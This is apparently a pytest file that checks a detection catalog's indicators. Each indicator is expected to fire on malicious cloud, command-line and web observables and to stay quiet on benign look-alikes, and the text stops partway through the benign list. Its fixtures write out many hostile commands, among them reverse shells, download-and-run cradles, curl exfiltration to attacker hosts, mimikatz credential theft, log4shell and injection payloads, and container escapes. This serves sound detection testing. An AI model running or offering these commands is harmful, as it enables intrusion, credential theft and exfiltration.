"""The bundled indicator catalog: every group fires on a typical malicious observable and stays
quiet on the benign administrative look-alike next to it."""

from __future__ import annotations

import pytest

from mitre.features import extract_features

EXTEND_BAR = 0.8  # DecisionSettings.extend_min_confidence default


def hits_for(indicators, alert):
    return indicators.evaluate(extract_features(alert))


def aws(action, **extra):
    return {"event.action": action, "cloud.provider": "aws", "event.dataset": "aws.cloudtrail", **extra}


def azure(action, **extra):
    return {"event.action": action, "cloud.provider": "azure", **extra}


def gcp(action, **extra):
    return {"event.action": action, "cloud.provider": "gcp", "event.dataset": "gcp.audit", **extra}


def okta(action, **extra):
    return {"event.action": action, "event.module": "okta", "event.dataset": "okta.system", **extra}


def m365(action, **extra):
    return {"event.action": action, "event.module": "o365", "event.dataset": "o365.audit", **extra}


def cmd(line, **extra):
    return {"process": {"command_line": line, **extra}}


# (alert, indicator id expected to fire, technique it must carry)
POSITIVES = [
    # --- AWS
    (aws("CreateUser"), "aws-iam-persistence-api", "T1136.003"),
    (aws("AttachUserPolicy"), "aws-iam-persistence-api", "T1098.003"),
    (aws("CreateSAMLProvider"), "aws-iam-persistence-api", "T1484.002"),
    (
        aws("AttachUserPolicy", message='{"policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}'),
        "aws-admin-policy-grant",
        "T1098.003",
    ),
    (aws("DeleteDetector"), "aws-security-service-tamper", "T1562.001"),
    (aws("DisableSecurityHub"), "aws-security-service-tamper", "T1562.001"),
    (aws("StopConfigurationRecorder"), "aws-security-service-tamper", "T1562.001"),
    (aws("StopLogging"), "cloud-trail-stop", "T1562.008"),
    (aws("PutEventSelectors"), "aws-cloud-log-modify", "T1562.008"),
    (aws("ModifySnapshotAttribute"), "aws-snapshot-share", "T1537"),
    (aws("ModifyDBSnapshotAttribute"), "aws-snapshot-share", "T1537"),
    (aws("CreateSnapshot"), "aws-infrastructure-modify", "T1578.001"),
    (
        aws("RunInstances", message="RunInstances in an unusual region for this account: ap-east-1"),
        "aws-instance-unusual-region",
        "T1578.002",
    ),
    (aws("PutBucketLifecycle"), "bucket-lifecycle-expiry", "T1485.001"),
    (aws("ScheduleKeyDeletion"), "aws-destruction", "T1485"),
    (aws("DeleteRecoveryPoint"), "aws-destruction", "T1490"),
    (aws("SendCommand"), "aws-cloud-execution", "T1651"),
    (aws("UpdateFunctionCode20150331v2"), "aws-cloud-execution", "T1648"),
    (aws("CreateFunction20150331"), "aws-cloud-execution", "T1648"),
    (aws("AuthorizeSecurityGroupIngress"), "aws-network-firewall-change", "T1562.007"),
    (
        aws("AuthorizeSecurityGroupIngress", message='{"cidrIp":"0.0.0.0/0","fromPort":22}'),
        "cloud-firewall-open-world",
        "T1562.007",
    ),
    (aws("GetSecretValue"), "aws-cloud-discovery", "T1555.006"),
    (aws("ListBuckets"), "aws-cloud-discovery", "T1619"),
    (aws("DescribeInstances"), "aws-cloud-discovery", "T1580"),
    (aws("GetObject"), "cloud-storage-object-read", "T1530"),
    (gcp("storage.objects.get"), "cloud-storage-object-read", "T1530"),
    (aws("GetAccountAuthorizationDetails"), "aws-cloud-discovery", "T1087.004"),
    (
        aws("ConsoleLogin", message="Console login from a new country for this user"),
        "aws-console-login-anomalous",
        "T1078.004",
    ),
    # --- Azure / Entra ID
    (azure("Add member to role"), "azure-entra-privilege-api", "T1098.003"),
    (azure("MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE"), "azure-entra-privilege-api", "T1098.003"),
    (azure("Add service principal credentials"), "azure-entra-privilege-api", "T1098.001"),
    (azure("Set domain authentication"), "azure-entra-privilege-api", "T1484.002"),
    (azure("Set federation settings on domain"), "azure-entra-privilege-api", "T1484.002"),
    (azure("Consent to application"), "azure-entra-privilege-api", "T1528"),
    (azure("Delete conditional access policy"), "azure-entra-privilege-api", "T1556.009"),
    (azure("MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION"), "azure-entra-privilege-api", "T1651"),
    (azure("MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/DELETE"), "azure-entra-privilege-api", "T1562.008"),
    (azure("Register device"), "azure-entra-weak-api", "T1098.005"),
    (azure("SecretGet"), "azure-entra-weak-api", "T1555.006"),
    (
        azure(
            "MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE",
            message='{"sourceAddressPrefix":"*","destinationPortRange":"3389"}',
        ),
        "cloud-firewall-open-world",
        "T1562.007",
    ),
    # --- GCP
    (gcp("google.iam.admin.v1.CreateServiceAccountKey"), "gcp-audit-api", "T1098.001"),
    (gcp("google.logging.v2.ConfigServiceV2.DeleteSink"), "gcp-audit-api", "T1562.008"),
    (gcp("v1.compute.projects.setCommonInstanceMetadata"), "gcp-audit-api", "T1098.004"),
    (gcp("google.iam.admin.v1.CreateServiceAccount"), "gcp-audit-weak-api", "T1136.003"),
    (
        gcp("v1.compute.firewalls.insert", message='{"sourceRanges":["0.0.0.0/0"],"allowed":[{"IPProtocol":"tcp"}]}'),
        "cloud-firewall-open-world",
        "T1562.007",
    ),
    # --- Okta
    (okta("system.idp.lifecycle.create"), "okta-admin-api", "T1484.002"),
    (okta("user.mfa.factor.deactivate"), "mfa-modified", "T1556.006"),
    (okta("system.mfa.factor.deactivate"), "okta-admin-api", "T1556.006"),
    (okta("policy.lifecycle.delete"), "okta-admin-api", "T1556.009"),
    (okta("zone.deactivate"), "okta-admin-api", "T1562.007"),
    (okta("user.account.privilege.grant"), "okta-admin-api", "T1098.003"),
    (okta("system.api_token.create"), "okta-admin-api", "T1098.001"),
    (okta("user.mfa.okta_verify.deny_push"), "okta-admin-api", "T1621"),
    # --- Microsoft 365
    (m365("New-InboxRule", message="ForwardTo: attacker@evil.example"), "m365-inbox-rule-forward", "T1114.003"),
    (
        m365("New-InboxRule", message="DeleteMessage: True; SubjectContainsWords: invoice"),
        "m365-inbox-rule-hide",
        "T1564.008",
    ),
    (m365("Set-Mailbox", message="ForwardingSmtpAddress: smtp:x@evil.example"), "m365-inbox-rule-forward", "T1114.003"),
    (m365("Add-MailboxPermission"), "m365-exchange-admin-api", "T1098.002"),
    (m365("Set-MailboxAuditBypassAssociation"), "m365-exchange-admin-api", "T1562.008"),
    (m365("Disable-AntiPhishRule"), "m365-exchange-admin-api", "T1562.001"),
    (m365("MailItemsAccessed"), "m365-exchange-weak-api", "T1114.002"),
    (
        m365("New-ManagementRoleAssignment", message="Role: ApplicationImpersonation"),
        "m365-impersonation-role",
        "T1098.002",
    ),
    # --- Windows / Linux / macOS command lines
    (cmd("powershell.exe -nop -w hidden -c IEX $x"), "hidden-window", "T1564.003"),
    (cmd("powershell -WindowStyle Hidden -File C:\\Users\\bob\\AppData\\Local\\a.ps1"), "hidden-window", "T1564.003"),
    (cmd("conhost.exe --headless cmd.exe /c calc"), "hidden-window", "T1564.003"),
    (cmd("echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | bash"), "base64-decode-to-shell", "T1140"),
    (cmd("python3 -c 'import socket,subprocess,os;s=socket.socket()'"), "python-inline-payload", "T1059.006"),
    (cmd("python -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\""), "python-inline-payload", "T1059.006"),
    (cmd("chmod +x /tmp/kdev"), "chmod-exec-dropped", "T1222.002"),
    (cmd("wget http://1.2.3.4/x -O /var/run/x && chmod 777 /var/run/x"), "chmod-exec-dropped", "T1222.002"),
    (cmd("chattr +i /root/.ssh/authorized_keys"), "immutable-attribute", "T1222.002"),
    (cmd("/tmp/.ICE-unix/.x/miner -o pool", executable="/tmp/.ICE-unix/.x/miner"), "hidden-path-in-temp", "T1564.001"),
    (cmd("mkdir /dev/shm/.cache1"), "hidden-path-in-temp", "T1564.001"),
    (cmd("attrib.exe +h +s C:\\ProgramData\\svc\\payload.exe"), "hidden-attribute-windows", "T1564.001"),
    (cmd("chflags hidden /Users/Shared/.agent"), "hidden-attribute-windows", "T1564.001"),
    (cmd("dscl . -create /Users/backdoor IsHidden 1"), "hidden-user-account", "T1564.002"),
    (cmd("./xmrig -o stratum+tcp://pool.example:3333 -u 4A --donate-level 1"), "crypto-miner", "T1496.001"),
    ({"dns": {"question": {"name": "pool.supportxmr.com"}}}, "mining-pool-traffic", "T1496.001"),
    (
        {"process": {"name": "[kworker/0:2]", "executable": "/tmp/.x/kworker"}},
        "kernel-thread-masquerade",
        "T1036.005",
    ),
    (cmd("bash -c \"exec -a '[kworker/1:1]' /tmp/agent\""), "argv-spoof-kernel-thread", "T1036.005"),
    (
        cmd('osascript -e \'display dialog "macOS needs your password" default answer "" with hidden answer\''),
        "osascript-credential-prompt",
        "T1056.002",
    ),
    (cmd("osascript -l JavaScript -e 'ObjC.import(\"Cocoa\")'"), "osascript-suspicious", "T1059.002"),
    (cmd('wscript.exe "C:\\Users\\bob\\Downloads\\invoice.vbs"'), "script-host-user-dir", "T1059.005"),
    (cmd('cscript.exe //nologo "C:\\Users\\bob\\AppData\\Local\\Temp\\run.js"'), "script-host-user-dir", "T1059.007"),
    (cmd("wscript.exe //e:jscript C:\\ProgramData\\a.txt"), "script-host-user-dir", "T1059.007"),
    (
        cmd(
            "cscript C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://evil.example/x.sct"
        ),
        "signed-script-proxy",
        "T1216.001",
    ),
    ({"process": {"name": "cmd.exe", "parent": {"name": "sqlservr.exe"}}}, "sql-server-shell", "T1505.001"),
    (cmd("cmd.exe /c echo xyzzy > \\\\.\\pipe\\xyzzy"), "named-pipe-impersonation", "T1134.001"),
    (cmd("cmstp.exe /ni /s C:\\Users\\Public\\evil.inf"), "cmstp-inf", "T1218.003"),
    (cmd("msiexec /q /i http://evil.example/pkg.msi"), "msiexec-remote", "T1218.007"),
    (cmd("msiexec.exe /y C:\\Users\\Public\\evil.dll"), "msiexec-remote", "T1218.007"),
    (
        cmd("InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\a.dll"),
        "installutil-proxy",
        "T1218.004",
    ),
    (cmd("regasm.exe /U C:\\Users\\Public\\payload.dll"), "regasm-regsvcs-proxy", "T1218.009"),
    (cmd("odbcconf.exe /a {REGSVR C:\\Users\\Public\\x.dll}"), "odbcconf-proxy", "T1218.008"),
    (cmd("mavinject.exe 4120 /INJECTRUNNING C:\\Users\\Public\\x.dll"), "mavinject", "T1218.013"),
    (cmd("control.exe C:\\Users\\bob\\AppData\\Local\\Temp\\x.cpl"), "control-cpl-user-dir", "T1218.002"),
    (
        cmd("rundll32.exe advpack.dll,LaunchINFSection C:\\Users\\Public\\x.inf,DefaultInstall_SingleUser,1,"),
        "rundll32-proxy-exports",
        "T1218.011",
    ),
    (cmd("forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe"), "indirect-command-execution", "T1202"),
    (cmd("pcalua.exe -a C:\\Users\\Public\\x.exe"), "indirect-command-execution", "T1202"),
    (
        cmd("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\msbuild.exe C:\\Users\\Public\\build.xml"),
        "msbuild-inline-task",
        "T1127.001",
    ),
    (cmd("net use \\\\10.0.0.5\\ADMIN$ /user:corp\\admin P@ss"), "admin-share-mount", "T1021.002"),
    (cmd("copy beacon.exe \\\\fileserver01\\C$\\Windows\\Temp\\beacon.exe"), "admin-share-copy", "T1570"),
    (
        cmd("copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\temp\\n.dit"),
        "shadow-copy-credential-files",
        "T1003.003",
    ),
    (
        cmd('mimikatz.exe "kerberos::golden /user:admin /domain:corp.local /sid:S-1-5-21-1 /krbtgt:abc /ptt"'),
        "golden-ticket",
        "T1558.001",
    ),
    (
        cmd('mimikatz "kerberos::golden /user:x /domain:c /sid:S-1 /target:srv /service:cifs /rc4:abc"'),
        "silver-ticket",
        "T1558.002",
    ),
    (cmd("Rubeus.exe ptt /ticket:doIF..."), "pass-the-ticket", "T1550.003"),
    (cmd("wmiexec.py -hashes :8846f7eaee8fb117ad06bdd830b7586c corp/admin@10.0.0.5"), "pass-the-hash", "T1550.002"),
    (cmd("net stop MSSQLSERVER /y"), "service-stop-for-impact", "T1489"),
    (cmd("sc stop VeeamBackupSvc"), "service-stop-for-impact", "T1489"),
    (cmd("ditto -c -k --sequesterRsrc /Users/bob/Documents /tmp/out.zip"), "staging-archive-sensitive", "T1560.001"),
    (cmd("curl --socks5-hostname 127.0.0.1:9050 http://example.com"), "tor-proxy", "T1090.003"),
    ({"dns": {"question": {"name": "duskgytldkxiuqc6.onion"}}}, "tor-proxy", "T1090.003"),
    (cmd("powershell iwr https://pastebin.com/raw/aB12cD34 -OutFile x.ps1"), "paste-site-download", "T1102"),
    (cmd("curl -F file=@loot.zip https://discord.com/api/webhooks/123/abc"), "webhook-exfil", "T1567.004"),
    (cmd("reg delete HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU /f"), "mru-cleared", "T1070"),
    (cmd("fsutil usn deletejournal /d c:"), "usn-journal-delete", "T1070"),
    (cmd("auditpol /clear /y"), "windows-event-logging-disabled", "T1562.002"),
    (cmd("wevtutil sl Security /e:false"), "windows-event-logging-disabled", "T1562.002"),
    (cmd("auditctl -D"), "linux-audit-disabled", "T1562.012"),
    (
        {
            "powershell": {
                "file": {"script_block_text": "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"}
            }
        },
        "amsi-bypass",
        "T1562.001",
    ),
    (cmd("fltmc unload SysmonDrv"), "minifilter-unload", "T1562.001"),
    (
        cmd("wmic /namespace:\\\\root\\securitycenter2 path antivirusproduct get displayname"),
        "security-software-discovery",
        "T1518.001",
    ),
    (
        cmd("netsh interface portproxy add v4tov4 listenport=4444 connectaddress=10.0.0.9 connectport=3389"),
        "portproxy",
        "T1090.001",
    ),
    (cmd("bcdedit /set testsigning on"), "code-signing-policy", "T1553.006"),
    (cmd("sudo spctl --master-disable"), "code-signing-policy", "T1553.001"),
    (cmd("bcdedit /set {default} bootstatuspolicy ignoreallfailures"), "boot-status-policy", "T1490"),
    (cmd("icacls C:\\Windows\\System32\\x.dll /grant Everyone:F"), "permissions-opened-windows", "T1222.001"),
    (
        cmd("copy C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe"),
        "accessibility-binary-replaced",
        "T1546.008",
    ),
    (
        {
            "powershell": {
                "file": {"script_block_text": "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b))"}
            }
        },
        "reflective-assembly-load",
        "T1620",
    ),
    (
        {"powershell": {"file": {"script_block_text": "Get-Keystrokes -LogPath $env:TEMP\\k.log"}}},
        "keylogger-api",
        "T1056.001",
    ),
    (
        {
            "powershell": {
                "file": {"script_block_text": "$g.CopyFromScreen($b.Location, [Drawing.Point]::Empty, $b.size)"}
            }
        },
        "screen-capture",
        "T1113",
    ),
    (cmd('vaultcmd /listcreds:"Windows Credentials" /all'), "credential-manager-access", "T1555.004"),
    (cmd("findstr /si password *.xml"), "credentials-in-files", "T1552.001"),
    (cmd("hashcat -m 13100 tickets.txt rockyou.txt"), "password-cracking", "T1110.002"),
    (cmd("kerbrute passwordspray -d corp.local users.txt Winter2024!"), "password-spray-guess", "T1110.003"),
    (cmd("hydra -l root -P rockyou.txt ssh://10.0.0.5"), "password-spray-guess", "T1110.001"),
    (cmd("responder -I eth0 -wrf"), "llmnr-poisoning-relay", "T1557.001"),
    (cmd("python3 PetitPotam.py 10.0.0.9 10.0.0.1"), "forced-authentication-coercion", "T1187"),
    (cmd("certipy find -u user@corp.local -p Pass -vulnerable"), "adcs-abuse", "T1649"),
    (
        {"powershell": {"file": {"script_block_text": "Get-DomainTrust; Get-NetComputer -Ping"}}},
        "powerview-discovery",
        "T1482",
    ),
    (cmd("echo /tmp/libx.so > /etc/ld.so.preload"), "ld-preload-hijack", "T1574.006"),
    (cmd("at 23:00 /every:M cmd /c C:\\Users\\Public\\x.bat"), "at-job", "T1053.002"),
    (cmd("echo '/tmp/.x &' >> /etc/rc.local"), "rc-script-persistence", "T1037.004"),
    (cmd("echo 'curl -s http://x | sh' >> ~/.bashrc"), "shell-profile-persistence", "T1546.004"),
    (cmd("sudo defaults write com.apple.loginwindow LoginHook /Users/Shared/hook.sh"), "macos-login-hook", "T1037.002"),
    (cmd("sed -i 's/pam_unix.so/pam_permit.so/' /etc/pam.d/common-auth"), "pam-module-tamper", "T1556.003"),
    (cmd("python3 mimipenguin.py"), "proc-memory-credential", "T1003.007"),
    (cmd("net user guest /active:yes"), "guest-account-enabled", "T1078.001"),
    (cmd("docker run --rm -it --privileged -v /:/host alpine chroot /host sh"), "container-escape-run", "T1611"),
    (cmd("nsenter -t 1 -m -u -i -n -p -- bash"), "container-escape-host", "T1611"),
    (cmd("kubectl exec -it web-7f9 -n prod -- /bin/sh -c 'cat /var/run/secrets/token'"), "kubectl-exec", "T1609"),
    (cmd("kubectl get secrets -A -o yaml"), "kubernetes-secret-read", "T1552.007"),
    (cmd("insmod /tmp/.m/diamorphine.ko"), "kernel-module-from-temp", "T1547.006"),
    (cmd("insmod /tmp/.m/diamorphine.ko"), "rootkit-names", "T1014"),
    (cmd("env GCONV_PATH=. CHARSET=PWNKIT pkexec"), "local-exploit", "T1068"),
    (
        cmd(
            "sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db \"INSERT INTO access VALUES('kTCCServiceScreenCapture','x',0,2)\""
        ),
        "tcc-manipulation",
        "T1548.006",
    ),
    (
        {
            "winlog": {
                "channel": "Security",
                "event_id": 4698,
                "event_data": {"TaskContent": "<Exec><Command>cmd.exe</Command></Exec>"},
            }
        },
        "security-scheduled-task",
        "T1053.005",
    ),
    ({"winlog": {"channel": "Security", "event_id": "4732"}}, "security-group-member-added", "T1098.007"),
    (
        {
            "winlog": {
                "channel": "Security",
                "event_id": 4662,
                "event_data": {
                    "SubjectUserName": "jdoe",
                    "Properties": "%%7688\r\n{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
                },
            }
        },
        "security-dcsync-rights",
        "T1003.006",
    ),
    (cmd('mimikatz.exe "lsadump::zerologon /target:dc01.corp.local /account:dc01$" exit'), "mimikatz-modules", "T1210"),
    (cmd('mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'), "lsass-dump-tool", "T1003.001"),
    (cmd("PrintSpoofer64.exe -i -c cmd"), "token-impersonation-tool", "T1134.001"),
    # --- Network / web
    (
        {
            "user_agent": {
                "original": "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
            }
        },
        "scanner-user-agent",
        "T1595.002",
    ),
    ({"user_agent": {"original": "sqlmap/1.7.2#stable (https://sqlmap.org)"}}, "scanner-user-agent", "T1595.002"),
    ({"user_agent": {"original": "Fuzz Faster U Fool v2.1.0 ffuf"}}, "scanner-user-agent", "T1595.003"),
    ({"user_agent": {"original": "gobuster/3.6"}}, "scanner-user-agent", "T1595.003"),
    ({"url": {"original": "/?x=${jndi:ldap://203.0.113.5:1389/a}"}}, "log4shell", "T1190"),
    ({"user_agent": {"original": "${${lower:j}${::-n}di:ldap://x.example/a}"}}, "log4shell-obfuscated", "T1027.010"),
    ({"user_agent": {"original": "() { :; }; /bin/bash -c 'id'"}}, "web-exploit-payload", "T1190"),
    ({"url": {"original": "/download?file=../../../../etc/passwd"}}, "web-exploit-payload", "T1190"),
    ({"url": {"original": "/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--"}}, "web-exploit-payload", "T1190"),
    ({"url": {"original": "/uploads/shell.php?cmd=whoami"}}, "web-shell-request", "T1505.003"),
    (cmd("dig @ns1.corp.example corp.example AXFR"), "dns-zone-transfer", "T1590.002"),
    (
        {"message": "client 203.0.113.7#41234 (corp.example): zone transfer 'corp.example/AXFR/IN' denied"},
        "dns-zone-transfer",
        "T1590.002",
    ),
    (cmd("onesixtyone -c dict.txt 10.0.0.0/24"), "snmp-attack-tools", "T1602.001"),
    (cmd("snmpset -v2c -c private 10.0.0.1 1.3.6.1.4.1.9.9.96.1.1.1.1.2.111 i 1"), "network-config-pull", "T1602.002"),
    ({"message": "copy running-config tftp://203.0.113.9/r1.cfg"}, "network-config-pull", "T1602.002"),
    (cmd("./ptunnel-ng -p 203.0.113.9 -l 8000 -r 127.0.0.1 -R 22"), "icmp-tunnel", "T1095"),
    # --- technique precision: each observable names the technique ATT&CK files it under
    (cmd("certutil -urlcache -split -f http://203.0.113.9/a.txt a.exe"), "certutil-download", "T1105"),
    (cmd("certutil -decode C:\\ProgramData\\a.b64 C:\\ProgramData\\a.dll"), "certutil-decode", "T1140"),
    (cmd("certutil -encode %TEMP%\\w.zip %TEMP%\\w.txt"), "certutil-encode", "T1027.013"),
    (cmd("bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"), "reverse-shell", "T1095"),
    (cmd('python3 -c import pty;pty.spawn("/bin/bash")'), "tty-upgrade", "T1059.004"),
    (cmd("launchctl load -w /Library/LaunchDaemons/com.example.helper.plist"), "launch-daemon", "T1543.004"),
    (cmd("launchctl load -w /Library/LaunchDaemons/com.example.helper.plist"), "launchctl-load", "T1569.001"),
    ({"file": {"path": "/Users/bob/Library/LaunchAgents/com.example.agent.plist"}}, "launch-agent", "T1543.001"),
    (
        {"file": {"path": "/Users/bob/Library/LaunchAgents/com.apple.softwareupdate.agent.plist"}},
        "apple-plist-masquerade",
        "T1036.005",
    ),
    (cmd('osascript -e tell application "System Events" to make login item at end'), "login-item-add", "T1547.015"),
    (cmd("net localgroup administrators eve /add"), "admin-group-add", "T1098.007"),
    (cmd("reg save HKLM\\SECURITY C:\\Windows\\Temp\\sec.hiv"), "sam-hive-export", "T1003.004"),
    (
        cmd("copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM C:\\t\\s"),
        "shadow-copy-credential-files",
        "T1003.002",
    ),
    (
        {"file": {"path": "/Users/bob/Library/Application Support/Google/Chrome/Default/Cookies"}},
        "browser-cookie-theft",
        "T1539",
    ),
    (cmd("nltest /domain_trusts /all_trusts"), "ad-ldap-discovery", "T1482"),
    (cmd('adfind.exe -f "(objectcategory=computer)" name'), "ad-ldap-discovery", "T1018"),
    (cmd("SharpHound.exe -c All"), "ad-recon-tools", "T1018"),
    (cmd("powershell -w h -ep bypass -f .\\data\\r.ps1"), "powershell-evasive-launch", "T1059.001"),
    (cmd("powershell -w h -ep bypass -f .\\data\\r.ps1"), "hidden-window", "T1564.003"),
    (cmd('powershell -nop -c "iwr -useb https://example.test/p.ps1 | iex"'), "powershell-download-cradle", "T1105"),
    (
        {"powershell": {"file": {"script_block_text": "$b=$a.GetField('am'+'siInit'+'Failed','NonPublic,Static')"}}},
        "powershell-string-obfuscation",
        "T1027.010",
    ),
    (
        cmd("rundll32.exe C:\\Windows\\System32\\comsvcs.dll #+0000^24 648 C:\\t\\d.bin full"),
        "lsass-dump-comsvcs",
        "T1003.001",
    ),
    (
        cmd("rundll32.exe C:\\Windows\\System32\\comsvcs.dll #+0000^24 648 C:\\t\\d.bin full"),
        "cmd-caret-obfuscation",
        "T1027.010",
    ),
    (
        cmd('cmd.exe /c "whoami /priv & certutil -urlcache -f http://203.0.113.9/p.exe p.exe"'),
        "cmd-chained-commands",
        "T1059.003",
    ),
    (cmd('cmd.exe /c "whoami /priv & hostname"'), "whoami-discovery", "T1033"),
    (
        {
            "process": {
                "command_line": "cmd.exe /c vssadmin list shadows",
                "name": "cmd.exe",
                "parent": {"name": "WmiPrvSE.exe"},
            }
        },
        "wmi-spawned-shell",
        "T1047",
    ),
    (cmd("wmic shadowcopy delete"), "wmic-action", "T1047"),
    (cmd("PsExec64.exe \\\\FS02 -s -accepteula -c C:\\Users\\Public\\r.exe"), "psexec-copy", "T1570"),
    ({"file": {"path": "\\\\FS02\\ADMIN$\\svc.exe"}}, "remote-share-executable-write", "T1570"),
    (cmd("7z.exe a -t7z C:\\PerfLogs\\f.7z \\\\fs01\\finance$\\2026\\*"), "unc-share-collection", "T1039"),
    (cmd("vmtoolsd.exe copy \\\\fs01\\finance$ mg:bk2026 --transfers 12"), "unc-share-collection", "T1039"),
    (cmd("tar czf - /var/lib/pgsql/backups | ssh dump@198.51.100.23 'cat > b.tgz'"), "archive-piped-out", "T1048"),
    (cmd("curl -s --upload-file w.txt https://paste.c-net.org/"), "paste-site-upload", "T1567.003"),
    (cmd("curl -X POST --data-binary @/tmp/out.zip http://203.0.113.7/upload"), "exfil-over-web", "T1041"),
    (cmd("ditto -c -k /Users/bob/Documents /tmp/.d.zip"), "staging-archive-sensitive", "T1005"),
    (cmd("bash -c {echo,Y3VybCBodHRwOi8vZXhhbXBsZQ==}|{base64,-d}|{bash,-i}"), "shell-brace-obfuscation", "T1027.010"),
    (cmd("bash -c {echo,Y3VybCBodHRwOi8vZXhhbXBsZQ==}|{base64,-d}|{bash,-i}"), "base64-decode-to-shell", "T1140"),
    (cmd("bash -c unset HISTFILE; export HISTSIZE=0"), "history-logging-disabled", "T1562.003"),
    (
        {"process": {"name": "sh", "command_line": "sh -c id", "parent": {"name": "php-fpm8.1"}}},
        "web-shell",
        "T1505.003",
    ),
    (
        {
            "process": {
                "name": "bash",
                "command_line": "bash -c curl -s http://203.0.113.9/x | bash",
                "parent": {"name": "java"},
            }
        },
        "app-server-exploit-shell",
        "T1190",
    ),
    # --- masquerading
    ({"process": {"executable": "C:\\ProgramData\\USOShared\\svchosts.exe"}}, "windows-binary-masquerade", "T1036.005"),
    ({"process": {"name": "sshd", "executable": "/dev/shm/.s/sshd"}}, "daemon-name-masquerade", "T1036.005"),
    (
        {"process": {"executable": "/Users/bob/Library/Caches/com.adobe.flashhelper"}},
        "vendor-updater-masquerade",
        "T1036.005",
    ),
    ({"process": {"name": "pd64.exe", "pe": {"original_file_name": "procdump"}}}, "renamed-tool", "T1036.003"),
    (
        {"process": {"name": "vmtoolsd.exe", "pe": {"original_file_name": "rclone.exe"}}},
        "renamed-tool-legit-name",
        "T1036.005",
    ),
    # --- user execution, discovery, misc.
    (
        {
            "process": {
                "command_line": 'wscript.exe "C:\\Users\\bob\\Downloads\\label.vbs"',
                "parent": {"name": "explorer.exe"},
            }
        },
        "user-opened-file",
        "T1204.002",
    ),
    (
        {
            "registry": {
                "path": "HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\a",
                "data": {"strings": "mshta https://captcha.example/c # I am not a robot"},
            }
        },
        "clickfix-runmru",
        "T1204.004",
    ),
    (cmd("python3 /tmp/mp.py"), "python-script-temp", "T1059.006"),
    (cmd('sh -c ioreg -rd1 -c IOPlatformExpertDevice | grep -iE "VirtualBox|VMware"'), "vm-detection", "T1497.001"),
    (cmd("system_profiler SPHardwareDataType"), "hardware-discovery", "T1082"),
    (cmd("curl -s ifconfig.me"), "external-ip-lookup", "T1016"),
    (
        cmd("/Users/bob/Library/Application Support/.helper/Helper.app/Contents/MacOS/Helper"),
        "hidden-dir-user-library",
        "T1564.001",
    ),
    (
        cmd('m64.exe "kerberos::golden /user:Administrator /domain:x /sid:S-1-5-21-1 /krbtgt:00 /ptt"'),
        "pass-the-ticket",
        "T1550.003",
    ),
    ({"message": "host generated 400 NXDOMAIN responses for random-looking .top names"}, "dga-nxdomain", "T1568.002"),
    ({"message": "module loaded; taints kernel; lsmod no longer lists it"}, "rootkit-hiding", "T1014"),
]

# (benign alert, indicator ids that must stay quiet)
NEGATIVES = [
    (aws("CreateUserPoolClient"), ["aws-iam-persistence-api"]),
    (
        aws("AttachUserPolicy", message='{"policyArn":"arn:aws:iam::aws:policy/ReadOnlyAccess"}'),
        ["aws-admin-policy-grant"],
    ),
    (aws("DescribeDetector"), ["aws-security-service-tamper", "cloud-trail-stop"]),
    (aws("UpdateTrail"), ["cloud-trail-stop"]),
    (aws("DeleteDetector"), ["cloud-trail-stop"]),
    (aws("DescribeSnapshotAttribute"), ["aws-snapshot-share"]),
    (aws("RunInstances", message="RunInstances by autoscaling in eu-west-1"), ["aws-instance-unusual-region"]),
    (aws("GetBucketLifecycle"), ["aws-destruction"]),
    (aws("ListCommandInvocations"), ["aws-cloud-execution"]),
    (aws("GetFunction"), ["aws-cloud-execution"]),
    (aws("RevokeSecurityGroupIngress"), ["aws-network-firewall-change", "cloud-firewall-open-world"]),
    (aws("AuthorizeSecurityGroupIngress", message='{"cidrIp":"10.20.0.0/16"}'), ["cloud-firewall-open-world"]),
    (aws("ConsoleLogin", message="ConsoleLogin success"), ["aws-console-login-anomalous"]),
    (azure("Add member to group"), ["azure-entra-privilege-api", "azure-entra-weak-api"]),
    (azure("Add member to role completed (PIM activation)"), ["azure-entra-privilege-api"]),
    (azure("Add user to group"), ["azure-entra-weak-api"]),
    (azure("MICROSOFT.COMPUTE/VIRTUALMACHINES/START/ACTION"), ["azure-entra-privilege-api"]),
    (gcp("google.iam.admin.v1.ListServiceAccountKeys"), ["gcp-audit-api", "gcp-audit-weak-api"]),
    (gcp("google.logging.v2.ConfigServiceV2.ListSinks"), ["gcp-audit-api"]),
    (okta("user.session.start"), ["okta-admin-api", "okta-weak-api"]),
    (okta("user.mfa.factor.activate"), ["okta-admin-api", "mfa-modified"]),
    (okta("policy.lifecycle.create"), ["okta-admin-api"]),
    (
        m365("New-InboxRule", message="MoveToFolder: Newsletters; From: news@vendor.example"),
        ["m365-inbox-rule-forward"],
    ),
    (m365("Set-Mailbox", message="RetentionPolicy: Default"), ["m365-inbox-rule-forward"]),
    (m365("Get-MailboxPermission"), ["m365-exchange-admin-api"]),
    (m365("New-ManagementRoleAssignment", message="Role: Mail Recipients"), ["m365-impersonation-role"]),
    (
